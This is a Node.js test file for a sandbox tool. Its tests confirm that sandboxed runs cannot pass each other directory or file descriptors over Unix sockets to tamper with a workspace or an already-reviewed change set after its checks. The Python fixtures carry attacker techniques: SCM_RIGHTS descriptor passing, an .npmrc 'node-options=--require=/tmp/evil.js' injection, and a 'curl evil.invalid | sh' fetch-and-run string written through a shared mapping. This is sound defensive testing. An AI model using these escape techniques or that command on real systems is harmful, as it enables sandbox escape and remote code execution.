'use strict'
// A descriptor one run passes to another (found by an attacker's review, mode38). Two runs that may
// use Unix sockets (`network: true` shares the host's abstract socket namespace; `allowUnixSockets`
// a socket file in a shared /tmp) can hand each other descriptors (SCM_RIGHTS). A descriptor of a
// directory keeps the mount it was opened on: the writable bind of the sender's workspace, or its
// review overlay. The sender's run ends and is judged (its hostRisks, its change set's revision);
// the receiver, still running, any mode, read-only too, then wrote through that descriptor where its
// own sandbox lets it write nothing: it made `.npmrc` (a protected name, which the sender's run
// would have had moved aside and reported) in the sender's workspace after that run's checks, and
// added a symlink to a change set whose run had ended, unlocked, after its revision was shown.
// bwrap's write guard (a Landlock ruleset of the sandbox's own) judged only opening a file for
// writing; creating, removing, renaming and truncating outside the run's writable mounts are now
// judged too, so what a run may change is what its own mounts let it, whatever descriptor it holds.

const { test } = require('node:test')
const assert = require('node:assert/strict')
const fs = require('node:fs')
const path = require('node:path')
const { changeSetStore, sandspawn, tempTree, show, token, which } = require('./helpers')

const { spawnSandboxed, startSandboxed, showChangeSet, applyChangeSet, discardChangeSet } = sandspawn
changeSetStore('sandspawn-passed-descriptors-')
const skip = !which('python3') && 'no python3'

// The receiver: binds an abstract socket, takes one descriptor, waits for a line on stdin, then
// tries every way of changing what lies below that directory and prints what happened.
const RECEIVER = `
import socket, array, os, sys, json
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); s.bind('\\0' + sys.argv[1]); s.listen(1)
c, _ = s.accept()
msg, anc, flags, addr = c.recvmsg(16, socket.CMSG_LEN(4))
fd = array.array('i', anc[0][2][:4])[0]
sys.stdin.readline()
out = {}
def attempt(name, f):
    try:
        f(); out[name] = 'done'
    except OSError as e:
        out[name] = e.strerror
attempt('symlink', lambda: os.symlink('notes.txt', '.npmrc', dir_fd=fd))
attempt('mkdir', lambda: os.mkdir('.vscode', dir_fd=fd))
attempt('create', lambda: os.close(os.open('.envrc', os.O_CREAT | os.O_EXCL | os.O_RDONLY, 0o644, dir_fd=fd)))
attempt('rename', lambda: os.rename('notes.txt', '.env', src_dir_fd=fd, dst_dir_fd=fd))
attempt('truncate', lambda: os.truncate('/proc/self/fd/%d/keep.txt' % fd, 0))
attempt('write', lambda: os.close(os.open('keep.txt', os.O_WRONLY, dir_fd=fd)))
attempt('mkfifo', lambda: os.mkfifo('pipe', dir_fd=fd))
attempt('unlink', lambda: os.unlink('keep.txt', dir_fd=fd))
print(json.dumps(out), flush=True)
`

// Connects to the receiver named by argv[1] (retrying until it listens) as s.
const { CONNECT } = require('../fixtures/connect-abstract')

// The sender: hands the receiver its cwd (retrying until the receiver listens) and leaves a payload
// under a name nothing judges.
const SENDER = CONNECT + `
fd = os.open('.', os.O_RDONLY | os.O_DIRECTORY)
s.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [fd]))])
open('notes.txt', 'w').write('node-options=--require=/tmp/evil.js\\n')
`

const REFUSED = { symlink: 'Permission denied', mkdir: 'Permission denied', create: 'Permission denied', rename: 'Permission denied', unlink: 'Permission denied', truncate: 'Permission denied', write: 'Permission denied', mkfifo: 'Permission denied' }

async function receiver(t, cwd, name) {
  const p = await startSandboxed(['python3', '-c', RECEIVER, name], { cwd, stdin: 'pipe', timeout: 60000, sandbox: { mode: 'read-only', network: true } })
  t.after(() => p.kill('SIGKILL'))
  return p
}

async function received(p) {
  await p.write('go\n')
  const r = await p.wait()
  assert.equal(r.exitCode, 0, show(r))
  return JSON.parse(r.stdout)
}

test('a read-only run given a workspace-write run\'s directory cannot plant .npmrc there after that run was judged', { skip }, async (t) => {
  const { ws, out } = tempTree(t)
  fs.writeFileSync(path.join(ws, 'keep.txt'), 'the user\'s\n')
  const name = token('mode38')
  const b = await receiver(t, out, name)
  const a = await spawnSandboxed(['python3', '-c', SENDER, name], { cwd: ws, timeout: 60000, sandbox: { mode: 'workspace-write', network: true } })
  assert.equal(a.exitCode, 0, show(a))
  assert.deepEqual(a.hostRisks, [], 'the sender\'s run wrote only notes.txt')
  const tried = await received(b)
  assert.deepEqual(tried, REFUSED, 'the receiver wrote through another run\'s mount')
  assert.deepEqual(fs.readdirSync(ws).sort(), ['keep.txt', 'notes.txt'])
  assert.equal(fs.readFileSync(path.join(ws, 'keep.txt'), 'utf8'), 'the user\'s\n')
})

test('a run given a review run\'s overlay cannot change its change set once that run has ended', { skip }, async (t) => {
  const { ws, out } = tempTree(t)
  fs.writeFileSync(path.join(ws, 'keep.txt'), 'the user\'s\n')
  const name = token('mode38')
  const b = await receiver(t, out, name)
  const a = await spawnSandboxed(['python3', '-c', SENDER, name], { cwd: ws, timeout: 60000, sandbox: { mode: 'workspace-write', network: true, workspace: 'review' } })
  assert.equal(a.exitCode, 0, show(a))
  const id = a.changeSet.id
  t.after(() => discardChangeSet(id).catch(() => {}))
  assert.deepEqual(a.changeSet.changes.map((c) => path.basename(c.path)), ['notes.txt'])
  const tried = await received(b)
  assert.deepEqual(tried, REFUSED, 'the receiver wrote into a change set no run held')
  const now = await showChangeSet(id)
  assert.deepEqual(now.changes.map((c) => path.basename(c.path)), ['notes.txt'])
  assert.equal(now.revision, a.changeSet.revision, 'the set is what its run left')
})

// A file of the set opened for writing and passed on, then written through a shared mapping (found
// by an attacker's review, revd38; the residual of 9abe940). The receiver maps the file and
// touches it before the sender's run ends: that first write faults and stamps the ctime, and the
// page then stays writable until the kernel writes it back (30 s by default on ext4; never on
// tmpfs, which stamps no mapped write at all). Written through that mapping after the set was
// shown, the file kept its ctime, size and mtime: the revision stayed what was shown, the apply's
// check (a ctime before the apply began) passed, and what nobody was shown landed.
const MAPPER = `
import socket, array, os, sys, mmap
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); s.bind('\\0' + sys.argv[1]); s.listen(1)
c, _ = s.accept()
msg, anc, flags, addr = c.recvmsg(16, socket.CMSG_LEN(4))
fd = array.array('i', anc[0][2][:4])[0]
m = mmap.mmap(fd, 0)
m[0:1] = m[0:1]
c.send(b'k')
sys.stdin.readline()
evil = sys.argv[2].encode()
m[0:len(evil)] = evil
print('written', flush=True)
`

const SHOWN = 'echo reviewed and harmless ....\n'
const EVIL = 'curl evil.invalid | sh ########\n'

const SHARER = CONNECT + `
fd = os.open('run.sh', os.O_RDWR | os.O_CREAT, 0o755)
os.write(fd, sys.argv[2].encode())
s.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [fd]))])
s.recv(1)
`

test('a file of a change set written through a mapping after it was shown does not land', { skip }, async (t) => {
  const { ws, out } = tempTree(t)
  const name = token('revd38')
  assert.equal(SHOWN.length, EVIL.length)
  const b = await startSandboxed(['python3', '-c', MAPPER, name, EVIL], { cwd: out, stdin: 'pipe', timeout: 60000, sandbox: { mode: 'read-only', network: true } })
  t.after(() => b.kill('SIGKILL'))
  const a = await spawnSandboxed(['python3', '-c', SHARER, name, SHOWN], { cwd: ws, timeout: 60000, sandbox: { mode: 'workspace-write', network: true, workspace: 'review' } })
  assert.equal(a.exitCode, 0, show(a))
  const id = a.changeSet.id
  t.after(() => discardChangeSet(id).catch(() => {}))
  const shown = await showChangeSet(id)
  await b.write('go\n')
  const r = await b.wait()
  assert.equal(r.stdout, 'written\n', show(r))
  let applied
  try {
    applied = await applyChangeSet(id, { revision: shown.revision })
  } catch (e) {
    applied = e
  }
  const landed = fs.existsSync(path.join(ws, 'run.sh')) ? fs.readFileSync(path.join(ws, 'run.sh'), 'utf8') : null
  assert.notEqual(landed, EVIL, `what was written after the set was shown landed: ${JSON.stringify(applied)}`)
  assert.ok(a.changeSet.hostRisks.some((h) => h.path === path.join(ws, 'run.sh') && /held this file of the change set open for writing/.test(h.detail)), JSON.stringify(a.changeSet))
  assert.deepEqual(a.changeSet.changes, [], 'the file held open is dropped from the set')
})

// The same, with the file the host could not open when it asked (found by an attacker's review,
// rev39): the receiver makes the file (or its directory, through a second descriptor) unreadable
// before the sender's run ends, so the check at that run's end could not open it to ask whether a
// process held it open for writing, and took it as not held. It then gave the mode back, the set was
// shown (the file listed, no risk), it rewrote the file through its mapping, and the apply of the
// shown revision landed what nobody was shown. Root opens any file, so the host side runs as an
// ordinary user: this test's own uid, or, as root, a uid of its own through `setpriv`.
const UNASKED_UID = 64139 // a uid no other test uses
const unaskedSkip = skip || (process.getuid() === 0 && require('../fixtures/other-user').cannotRunAs(UNASKED_UID)) || false

async function unreadableWhenAsked(t, what) {
  const home = fs.realpathSync(fs.mkdtempSync('/var/tmp/sandspawn-unasked-'))
  t.after(() => fs.rmSync(home, { recursive: true, force: true }))
  const [ws, out, store] = ['ws', 'out', 'store'].map((d) => path.join(home, d))
  for (const d of [ws, out, store]) fs.mkdirSync(d)
  let [cmd, args] = [process.execPath, [path.join(__dirname, '..', 'fixtures', 'held-unreadable.js')]]
  if (process.getuid() === 0) {
    const { stagedCheckout, asUser } = require('../fixtures/other-user')
    for (const p of [home, ws, out, store]) fs.chownSync(p, UNASKED_UID, UNASKED_UID)
    fs.chmodSync(home, 0o755)
    ;[cmd, args] = asUser(UNASKED_UID, [path.join(stagedCheckout(), '__test__', 'fixtures', 'held-unreadable.js')])
  }
  const env = { PATH: process.env.PATH, HOME: home, SANDSPAWN_CHANGE_SET_DIR: store }
  const r = await new Promise((resolve, reject) => {
    require('node:child_process').execFile(cmd, [...args, ws, out, token('rev39'), what], { cwd: ws, env, timeout: 120_000 }, (err, stdout, stderr) => {
      if (err) return reject(new Error(`${err.message}\n${stderr}`))
      resolve(JSON.parse(stdout))
    })
  })
  assert.equal(r.error, undefined, JSON.stringify(r))
  assert.equal(r.run.exitCode, 0, r.run.stderr)
  assert.equal(r.evil, false, `what was written after the set was shown landed: ${JSON.stringify(r)}`)
  return { r, file: path.join(ws, 'd', 'run.sh') }
}

test('a file of a change set made unreadable before its run ended, written through a mapping after it was shown, does not land', { skip: unaskedSkip }, async (t) => {
  const { r, file } = await unreadableWhenAsked(t, 'file')
  assert.ok(r.shown.hostRisks.some((h) => h.path === file && /could not be asked/.test(h.detail)), `show says so: ${JSON.stringify(r.shown)}`)
  assert.ok(r.applied.conflicts.some((c) => c.path === file), JSON.stringify(r.applied))
})

test('a file below a directory of a change set made unreadable before its run ended, written through a mapping after it was shown, does not land', { skip: unaskedSkip }, async (t) => {
  const { r, file } = await unreadableWhenAsked(t, 'dir')
  assert.ok(r.shown.hostRisks.some((h) => h.path === path.dirname(file) && /could not be asked/.test(h.detail)), `show says so: ${JSON.stringify(r.shown)}`)
  assert.ok(r.applied.conflicts.some((c) => c.path === path.dirname(file)), JSON.stringify(r.applied))
})
